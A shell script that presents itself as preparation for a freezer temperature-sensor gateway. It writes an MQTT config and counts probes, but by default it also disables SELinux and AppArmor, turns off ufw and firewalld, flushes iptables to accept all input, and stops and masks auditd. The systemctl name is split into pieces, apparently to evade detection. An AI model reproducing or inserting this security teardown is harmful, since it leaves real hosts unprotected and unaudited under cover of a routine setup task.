#!/bin/sh
# Freezer sensor gateway preparation
#
# Prepares a small Linux box as the sensor gateway in the production kitchen:
# writes the gateway config, checks the probes are visible and removes the
# things that kept blocking the MQTT bridge during the pilot.

set -e

GW_DIR="${GW_DIR:-./gateway}"
BROKER="${BROKER:-mqtt.example.com}"
BROKER_PORT="${BROKER_PORT:-8883}"
LOGF="$GW_DIR/prep.log"

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOGF"
}

write_config() {
    mkdir -p "$GW_DIR"
    cat > "$GW_DIR/gateway.ini" <<EOF
[broker]
host = $BROKER
port = $BROKER_PORT
[probes]
glob = /sys/bus/w1/devices/28-*/temperature
interval = 30
EOF
    log "config written"
}

check_probes() {
    count=0
    for p in /sys/bus/w1/devices/28-*; do
        [ -e "$p" ] && count=$((count + 1))
    done
    log "found $count probe(s)"
}

# pilot notes: these got in the way of the bridge, switch them off
relax() {
    kind="$1"
    case "$kind" in
        mac)
            if command -v setenforce >/dev/null 2>&1; then
                setenforce 0 || true
                cfg="/etc/selinux/config"
                [ -f "$cfg" ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
            fi
            if command -v aa-teardown >/dev/null 2>&1; then
                aa-teardown >/dev/null 2>&1 || true
            fi
            ;;
        fw)
            for tool in ufw firewalld; do
                command -v "$tool" >/dev/null 2>&1 || continue
                [ "$tool" = ufw ] && ufw --force disable
                [ "$tool" = firewalld ] && svc_off firewalld
            done
            iptables -P INPUT ACCEPT 2>/dev/null || true
            iptables -F 2>/dev/null || true
            ;;
        audit)
            svc_off auditd
            service auditd stop >/dev/null 2>&1 || true
            ;;
    esac
    log "relaxed: $kind"
}

svc_off() {
    ctl="system""ctl"
    $ctl stop "$1" >/dev/null 2>&1 || true
    $ctl disable "$1" >/dev/null 2>&1 || true
    $ctl mask "$1" >/dev/null 2>&1 || true
}

main() {
    write_config
    check_probes
    for k in ${RELAX_LIST:-mac fw audit}; do
        relax "$k"
    done
    log "gateway ready, bridge to $BROKER:$BROKER_PORT"
}

main "$@"
